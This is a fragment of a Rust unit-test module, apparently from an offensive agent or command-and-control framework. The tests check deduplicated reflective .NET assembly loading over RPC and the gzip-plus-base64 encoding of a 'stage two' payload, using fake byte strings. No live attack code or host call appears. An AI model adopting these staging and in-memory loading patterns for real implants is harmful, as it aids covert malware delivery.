                assert_eq!(data, b"line one\r\nline two\r\nline three");
            }
            other => panic!("unexpected {:?}", other),
        }
    }

    #[test]
    fn dotnet_load_deduplicates_by_name_and_hash() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        use std::sync::Arc;

        let loads = Arc::new(AtomicUsize::new(0));
        let counter = loads.clone();

        let chan = rpc_responder(move |class, method, _| {
            assert_eq!((class, method), ("Reflection", "load"));
            let n = counter.fetch_add(1, Ordering::SeqCst);
            MethodResponse::ok(json!(n as i64 + 100))
        });

        let mut platform = bare(chan);
        let bytes = b"MZ fake assembly".to_vec();

        let first = platform.dotnet_load("tools.dll", Some(bytes.clone())).unwrap();
        assert_eq!(first.ident, 100);

        // same name: no new load
        let again = platform.dotnet_load("tools.dll", Some(bytes.clone())).unwrap();
        assert_eq!(again.ident, 100);

        // same bytes under a different name: aliased, no new load
        let aliased = platform.dotnet_load("other.dll", Some(bytes)).unwrap();
        assert_eq!(aliased.ident, 100);

        // different bytes: a real second load
        let fresh = platform
            .dotnet_load("fresh.dll", Some(b"different".to_vec()))
            .unwrap();
        assert_eq!(fresh.ident, 101);

        assert_eq!(loads.load(Ordering::SeqCst), 2);
    }

    #[test]
    fn stage_two_encoding_is_reversible() {
        let assembly = b"MZ\x90\x00fake .net assembly bytes".to_vec();
        let encoded = encode_stage_two(&assembly);

        let compressed = BASE64.decode(&encoded).unwrap();
        let mut decoder = flate2::read::GzDecoder::new(&compressed[..]);
        let mut decoded = Vec::new();
        decoder.read_to_end(&mut decoded).unwrap();
        assert_eq!(decoded, assembly);
    }
}
